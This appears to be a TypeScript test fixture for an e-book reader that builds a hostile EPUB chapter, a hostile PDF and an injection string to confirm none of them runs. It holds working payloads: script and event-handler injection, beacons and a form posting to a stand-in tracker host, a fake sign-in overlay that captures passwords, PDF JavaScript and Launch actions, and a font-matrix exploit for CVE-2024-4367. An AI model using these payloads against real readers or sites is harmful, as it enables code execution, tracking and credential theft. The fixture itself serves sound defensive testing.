/** Generated hostile books: an EPUB chapter and a PDF that try to run code, send requests and deceive. */
import { pdfOf, pdfStream } from './pdfFiles.ts';

/** A chapter that combines several attacks: running code, sending requests, navigating, deceiving. */
export const hostileChapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>c</title>
<link rel="stylesheet" href="https://tracker.invalid/s.css"/><link rel="prefetch" href="https://tracker.invalid/pre"/>
<style>@import url("https://tracker.invalid/i.css"); body { background: url("https://tracker.invalid/b.png") }
@font-face { font-family: x; src: url("https://tracker.invalid/f.woff2") } p { font-family: x; cursor: url("https://tracker.invalid/c.cur"), auto }</style>
<meta http-equiv="refresh" content="0;url=https://tracker.invalid/r"/><base href="https://tracker.invalid/"/></head>
<body><p id="t">Nothing of this may run.</p>
<script>parent.postMessage('run', '*'); parent.localStorage.setItem('run', '1'); top.document.title = 'run'; top.location = 'https://tracker.invalid/top';
parent.dispatchEvent(new CustomEvent('bookUpdated', { detail: { run: true } })); navigator.sendBeacon('https://tracker.invalid/beacon');</script>
<img src="x" alt="" onerror="parent.localStorage.setItem('run', '2')"/><img alt="" src="https://tracker.invalid/p.gif" srcset="https://tracker.invalid/p2.gif 2x"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="parent.localStorage.setItem('run', '3')"><script>parent.localStorage.setItem('run', '5')</script><image href="https://tracker.invalid/svg.png"/></svg>
<iframe src="https://tracker.invalid/f"></iframe><iframe srcdoc="&lt;script&gt;parent.parent.localStorage.setItem('run', '6')&lt;/script&gt;"></iframe>
<object data="https://tracker.invalid/o"></object><embed src="https://tracker.invalid/e"/><video src="https://tracker.invalid/v" poster="https://tracker.invalid/poster" autoplay=""></video>
<a id="js" href="javascript:parent.localStorage.setItem('run', '4')">a script</a>
<a id="out" href="https://tracker.invalid/link" ping="https://tracker.invalid/ping" target="_top">a link out</a>
<form id="sign-in" action="https://tracker.invalid/form" style="position: fixed; inset: 0; z-index: 2147483647; background: white; inline-size: 200vw; block-size: 200vh">
<h1>Sign in to Lectern</h1><input id="secret" type="password"/><button id="send">Sign In</button></form></body></html>`;

/**
 * A PDF with actions on opening, on its page and on its links, and with code in its font.
 */
export const hostilePdf = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://tracker.invalid/form")) /Next [<< /S /Launch /F (calc.exe) >> << /S /URI /URI (https://tracker.invalid/open) >>] >> /AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert("named")) >>] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> /AA << /O << /S /JavaScript /JS (app.alert("page")) >> >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R] >>',
    pdfStream(
      'BT /F1 18 Tf 20 250 Td (Inert words of a trapped file.) Tj /F2 18 Tf 0 -40 Td (Code in a font) Tj ET',
    ),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    // CVE-2024-4367: text among the numbers of a font matrix was executed as code.
    "<< /Type /Font /Subtype /Type1 /BaseFont /SNCSTG+CMBX12 /FirstChar 0 /LastChar 1 /Widths [500 500] /FontMatrix [1 2 3 4 5 (1\\); parent.localStorage.setItem\\('run', 'font'\\); alert\\('font'\\)//)] >>",
    '<< /Type /Annot /Subtype /Link /Rect [20 150 180 170] /Border [0 0 1] /A << /S /JavaScript /JS (app.alert("link")) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [20 120 180 140] /Border [0 0 1] /A << /S /URI /URI (javascript:localStorage.setItem\\("run","uri"\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [20 90 180 110] /Border [0 0 1] /A << /S /URI /URI (https://tracker.invalid/link) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [20 60 180 80] /Border [0 0 1] /A << /S /Launch /F (calc.exe) >> >>',
  ]);

/** Markup for fields that expect text, for HTML, attributes and templates. */
export const markup = '<img src=x onerror="localStorage.run=1">"><script>alert(2)</script>{{7*7}}';
